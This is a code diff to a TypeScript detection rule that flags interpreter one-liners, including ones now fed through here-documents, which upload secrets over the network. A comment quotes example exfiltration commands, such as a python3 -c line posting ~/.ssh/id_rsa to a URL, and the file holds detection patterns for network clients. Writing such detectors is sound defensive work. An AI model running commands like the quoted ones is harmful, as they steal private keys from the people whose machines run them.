@@ -1,6 +1,7 @@
 import { isWhitespace } from '../is-whitespace.js';
-import { commandAt, EXE_SUFFIX, inputHoldsSecrets } from './anchored-command.js';
+import { type AnchoredCommand, commandAt, EXE_SUFFIX, inputHoldsSecrets } from './anchored-command.js';
 import { isCollectorHost, secretVariableScore } from './exfiltration-hosts.js';
+import { fedTexts } from './here-documents.js';
 import { type CodeFacts, codeFacts } from './interpreter-code.js';
 import {
   INTERPRETER_NAME,
@@ -10,6 +11,7 @@ import {
 } from './interpreter-program.js';
 import type { PayloadRule } from './payload-rule.js';
 import { createPipelineReader } from './pipeline-reader.js';
+import { withoutRedirections } from './sensitive-sources.js';
 
 // One-line programs that upload secrets: `python3 -c "import requests,os; requests.post(URL,
 // data=open(os.path.expanduser('~/.ssh/id_rsa')).read())"`, `node -e "fetch(URL,{method:'POST',
@@ -59,6 +61,20 @@ export function hasCodeOption(text: string): boolean {
   }
   return false;
 }
+/**
+ * The program an interpreter reads from a here-document or here-string (`python3 - <<'EOF' … EOF`,
+ * `node <<EOF … EOF`, `python3 <<< "…"`): only when its other words are options, so that what it is
+ * fed is the program and not a script's input (`python3 manage.py shell <<EOF`).
+ */
+function fedProgram(
+  text: string,
+  anchored: AnchoredCommand,
+): { code: string; modules: string[] } | undefined {
+  if (!withoutRedirections(anchored.after).every((word) => word.value.startsWith('-'))) return undefined;
+  const code = fedTexts(text, anchored.command)[0];
+  return code === undefined ? undefined : { code, modules: [] };
+}
+
 /** Every network client of `NETWORK_CLIENTS` (in the program or loaded as a module) holds one of these. */
 export const NETWORK_MARKER =
   /http|socket|sockopen|urlopen|fetch|lib|lwp|axios|connect|dgram|open-uri|faraday|rest-?client|requests|curl/i;
@@ -81,15 +97,17 @@ export const INTERPRETER_EXFILTRATION_RULE: PayloadRule = {
   // Parts of the names whose first three letters are rare in prose (`per`, `pyt` and `rub` open many
   // words): the one hint pass stops at every position whose first three letters open a hint.
   hints: ['ytho', 'node', 'erl', 'uby', 'php'],
-  // A code option (`-c`, `-e`, `-le`, `--eval`) and a network client's name must both occur: two
-  // single-pass tests, the first of which fails on almost every text that names an interpreter.
-  textFilter: (text) => hasCodeOption(text) && NETWORK_MARKER.test(text),
+  // A code option (`-c`, `-e`, `-le`, `--eval`) or a
+  // here-document (`<<`) and a network client's name must both occur: two single-pass tests, the first
+  // of which fails on almost every text that names an interpreter.
+  textFilter: (text) => (hasCodeOption(text) || text.includes('<<')) && NETWORK_MARKER.test(text),
   confirm: ({ text, start }) => {
     const anchored = commandAt({ reader, text, start, names: INTERPRETER_NAMES });
     const word = anchored.command.find((candidate) => candidate.start === start);
     const name = word?.value.toLowerCase().replace(EXE_SUFFIX, '');
     if (name === undefined || !INTERPRETER_NAME.test(name)) return undefined;
-    const program = interpreterProgram(name.replace(VERSION_SUFFIX, ''), anchored.after);
+    const program =
+      interpreterProgram(name.replace(VERSION_SUFFIX, ''), anchored.after) ?? fedProgram(text, anchored);
     if (program === undefined) return undefined;
     const facts = codeFacts(program.code, program.modules);
     if (!facts.sends) return undefined;
